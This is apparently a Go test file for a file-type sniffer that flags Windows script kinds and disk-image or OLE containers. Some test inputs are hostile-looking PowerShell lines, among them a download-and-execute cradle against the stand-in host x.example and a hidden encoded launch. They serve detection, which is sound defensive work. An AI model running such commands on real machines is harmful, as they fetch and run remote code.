package file

import (
	"encoding/binary"
	"strings"
	"testing"
)

func TestScript(t *testing.T) {
	for text, want := range map[string]string{
		"var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"x\")":                                  "windows script",
		"Set x = CreateObject(\"Scripting.FileSystemObject\")\r\nx.CreateTextFile \"a\"":              "windows script",
		"\xff\xfe" + wide("$c = New-Object Net.WebClient; IEX $c.DownloadString('http://x.example')"): "powershell script",
		"\xfe\xff" + turned(wide("Invoke-Expression $x; Start-Process y")):                            "powershell script",
		"cmd /c powershell -nop -w hidden -enc AAAA":                                                  "powershell command",
		"\xef\xbb\xbf@echo off\r\nstart calc":                                                         "batch file",
		"#@~^EwAAAA==":                                                                                "encoded script",
		"Windows Registry Editor Version 5.00\r\n":                                                    "registry file",
		"[InternetShortcut]\r\nURL=file://x.example/a":                                                "shortcut",
		"<?xml version=\"1.0\"?><package><job id=a><script language=\"VBScript\">":                    "script component",
		"Dear all,\n\nPowerShell training is on Tuesday. Please bring your laptop.":                   "",
		"The script host (WScript.Shell) is switched off on our machines from May on.":                "",
		"item,price\nbolt,12\n":                                                                       "",
		"":                                                                                            "",
		"@echo off\x00":                                                                               "",
	} {
		if got := Script([]byte(text)); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

func wide(s string) string {
	var b []byte
	for i := range len(s) {
		b = append(b, s[i], 0)
	}
	return string(b)
}

func turned(s string) string {
	b := []byte(s)
	for i := 0; i+1 < len(b); i += 2 {
		b[i], b[i+1] = b[i+1], b[i]
	}
	return string(b)
}

func TestImages(t *testing.T) {
	sector := make([]byte, 2048)
	copy(sector, "\xeb\x3c\x90")
	sector[510], sector[511] = 0x55, 0xaa
	fat, plain := string(sector[:54])+"FAT12   "+string(sector[62:]), string(sector)
	msi := make([]byte, 1536)
	copy(msi, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	binary.LittleEndian.PutUint16(msi[30:], 9)
	binary.LittleEndian.PutUint32(msi[48:], 1) // the directory is the second sector behind the header
	copy(msi[1024+80:], "\x84\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46")
	doc := append([]byte{}, msi...)
	copy(doc[1024+80:], "\x06\x09\x02\x00")
	far := append([]byte{}, msi...)
	binary.LittleEndian.PutUint32(far[48:], 0xfffffffe)
	for name, c := range map[string]struct {
		data string
		want Type
	}{
		"fat": {fat, Disk}, "no file system": {plain, Unknown}, "qcow2": {"QFI\xfb\x00\x00\x00\x03", Disk}, "vmdk": {"KDMV\x01\x00\x00\x00", Disk},
		"udf": {strings.Repeat("\x00", 0x8001) + "BEA01\x01", Disk}, "dmg": {strings.Repeat("\x00", 600) + "koly" + strings.Repeat("\x00", 508), Disk},
		"msi": {string(msi), MSI}, "doc": {string(doc), OLE}, "no directory": {string(far), OLE},
	} {
		if got := Sniff([]byte(c.data)); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}

func FuzzScript(f *testing.F) {
	f.Add([]byte("\xff\xfe@\x00e\x00"))
	f.Add([]byte("powershell -enc x"))
	f.Fuzz(func(t *testing.T, b []byte) {
		Script(b)
		Sniff(b)
	})
}
